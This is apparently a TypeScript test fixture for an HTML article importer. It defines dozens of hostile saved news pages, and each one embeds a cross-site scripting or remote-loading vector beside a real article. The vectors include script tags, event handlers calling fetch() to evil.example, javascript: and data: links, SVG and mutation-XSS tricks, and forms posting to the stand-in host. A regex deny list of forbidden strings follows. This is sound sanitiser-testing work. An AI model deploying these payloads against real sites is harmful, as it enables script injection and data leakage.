/**
 * Hostile saved pages for the import tests: each tries one way to run script, load something or leave
 * the machine when the page is imported or the article is shown. Every page also has a real article
 * (long enough for Readability) so the attack rides along with text that is kept.
 */
const ARTICLE = Array.from({ length: 8 }, (_, i) =>
  `<p>Paragraph ${i + 1} of the report: officials in the port city said on Tuesday that the ambush killed fourteen members of the security forces, according to the interior ministry, and that the search for the attackers went on overnight.</p>`,
).join('\n');

/** `mayRefuse`: the attack breaks the page's structure so far that refusing it as "no article" is also right. */
export type HostilePage = { name: string; html: string; mayRefuse?: boolean };

const page = (name: string, head: string, inBody: string, around: (body: string) => string = (b) => b): HostilePage => ({
  name,
  html: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Ambush kills fourteen - Hostile News</title>${head}</head><body>${around(`<article><h1>Ambush kills fourteen</h1>${inBody}${ARTICLE}${inBody}</article>`)}</body></html>`,
});

export const HOSTILE_PAGES: HostilePage[] = [
  page('inline script', '<script>window.__pwned=1;fetch("https://evil.example/s")</script>', '<script>window.__pwned=1</script>'),
  page('external script', '<script src="https://evil.example/x.js"></script>', '<script src="https://evil.example/y.js"></script>'),
  page('module script', '', '<script type="module">import "https://evil.example/m.js"</script>'),
  page('onerror image', '', '<p>Look <img src="x" onerror="fetch(\'https://evil.example/i\')"> here.</p>'),
  page('remote image', '', '<figure><img src="https://evil.example/photo.jpg" alt="A photo"><figcaption>Smoke over the port.</figcaption></figure>'),
  page('srcset image', '', '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.jpg" srcset="https://evil.example/b.jpg 2x"></picture>'),
  page('onclick paragraph', '', '<p onclick="fetch(\'https://evil.example/c\')" onmouseover="alert(1)">Clickable words in the story.</p>'),
  page('javascript link', '', '<p>Read <a href="javascript:fetch(\'https://evil.example/j\')">the statement</a> in full.</p>'),
  page('javascript link with entities', '', '<p>Read <a href="jav&#x09;ascript:alert(1)">the statement</a> and <a href=" JaVaScRiPt:alert(1)">this</a>.</p>'),
  page('data link', '', '<p>See <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">the data</a>.</p>'),
  page('vbscript link', '', '<p>See <a href="vbscript:msgbox(1)">this</a>.</p>'),
  page('svg with script', '', '<svg><script>alert(1)</script><image href="https://evil.example/s.svg"/></svg>'),
  page('svg onload', '', '<svg onload="fetch(\'https://evil.example/o\')"><circle r="4"/></svg>'),
  page('math with link', '', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
  page('iframe', '', '<iframe src="https://evil.example/frame"></iframe>'),
  page('srcdoc iframe', '', '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'),
  page('object and embed', '', '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">'),
  page('form', '', '<form action="https://evil.example/post" method="post"><input name="q" value="x"><button formaction="https://evil.example/b">Send</button></form>'),
  page('meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/r">', ''),
  page('base href', '<base href="https://evil.example/">', '<p>A <a href="relative/page">relative link</a>.</p>'),
  page('link stylesheet and prefetch', '<link rel="stylesheet" href="https://evil.example/s.css"><link rel="prefetch" href="https://evil.example/p"><link rel="dns-prefetch" href="//evil.example">', ''),
  page('style block with remote font', '<style>@import url(https://evil.example/i.css);@font-face{src:url(https://evil.example/f.woff)}</style>', '<style>p{background:url(https://evil.example/bg.png)}</style>'),
  page('inline style url', '', '<p style="background-image:url(https://evil.example/bg.png)">Styled words in the story.</p>'),
  page('video and audio', '', '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.jpg" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>'),
  page('noscript mutation XSS', '', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
  page('template', '', '<template><img src="https://evil.example/t.jpg" onerror="alert(1)"></template>'),
  { ...page('mXSS via svg style', '', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'), mayRefuse: true },
  page('event handler in heading', '', '<h2 onfocus="alert(1)" tabindex="1" autofocus>Heading with a handler</h2>'),
  page('formaction and autofocus input', '', '<input autofocus onfocus="fetch(\'https://evil.example/f\')">'),
  page('custom element and is=', '', '<x-widget onconnected="alert(1)"><p is="evil-p">Custom element text in the story.</p></x-widget>'),
  page('dialog and details', '', '<details open ontoggle="alert(1)"><summary>More</summary>Hidden text</details>'),
  page('ping and download attributes', '', '<p><a href="https://example.org/source" ping="https://evil.example/ping" download>The source document</a>.</p>'),
  page('object in comments and CDATA', '', '<!--<img src="https://evil.example/c.jpg">--><![CDATA[<script>alert(1)</script>]]>'),
  page('applet and frameset remnants', '', '<applet code="https://evil.example/A.class"></applet><frame src="https://evil.example/f">'),
  page('imagesrcset preload', '<link rel="preload" as="image" imagesrcset="https://evil.example/x.jpg 1x">', ''),
  page('background attribute', '', '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/td.png">A table cell of the story</td></tr></table>'),
  page('xlink in svg use', '', '<svg><use xlink:href="https://evil.example/sprite.svg#x"></use></svg>'),
  page('srcset on figure source', '', '<figure><picture><source srcset="https://evil.example/f.avif"></picture><figcaption onclick="alert(1)">Caption with a handler.</figcaption></figure>'),
];

/** Text that must never reach a stored document from any page above. */
export const FORBIDDEN_IN_DOC = [
  /evil\.example/i,
  /javascript:/i,
  /vbscript:/i,
  /data:text/i,
  /<script/i,
  /\bon[a-z]+\s*=/i,
  /__pwned/,
  /srcdoc/i,
  /url\(/i,
];
